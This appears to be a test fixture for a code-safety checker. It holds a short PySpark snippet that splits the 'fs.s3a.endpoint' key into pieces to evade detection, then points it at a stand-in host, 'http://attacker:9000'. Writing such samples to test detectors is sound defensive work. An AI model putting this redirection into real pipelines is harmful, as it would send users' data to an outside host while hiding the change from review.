# expect: safety.spark-conf
# class: 8-escape-hatches
df = spark.read.csv(inputs["sales"], header=True, inferSchema=True)
key = 'fs.s3a.' + 'endpoint'
spark.conf.set(key, 'http://attacker:9000')
result = df
